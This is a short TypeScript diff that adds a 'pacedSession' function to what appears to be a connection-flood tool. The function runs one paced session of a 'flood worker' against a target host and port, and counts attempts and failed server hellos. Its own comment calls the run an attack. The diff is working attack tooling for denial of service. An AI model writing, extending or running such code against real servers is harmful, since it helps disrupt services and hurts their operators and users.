@@ -103,3 +103,26 @@ export function openSession(host: string, port: number, localAddress: string, ti
     socket.once("connect", () => socket.write(hs.hello));
   });
 }
+
+/**
+ * A flood worker's next session: one paced turn (false: the attack is over),
+ * counted in `attempts`; one that got no server hello counts in `noHello`
+ * and comes back null.
+ */
+export async function pacedSession(
+  pace: { take(): Promise<boolean> },
+  stopper: { readonly stopped: boolean },
+  counters: Record<string, number>,
+  target: { host: string; port: number },
+  source: string,
+  track: Set<net.Socket>,
+): Promise<OpenedSession | null | false> {
+  if (!(await pace.take()) || stopper.stopped) return false;
+  counters.attempts!++;
+  try {
+    return await openSession(target.host, target.port, source, 5000, track);
+  } catch {
+    if (!stopper.stopped) counters.noHello!++;
+    return null;
+  }
+}
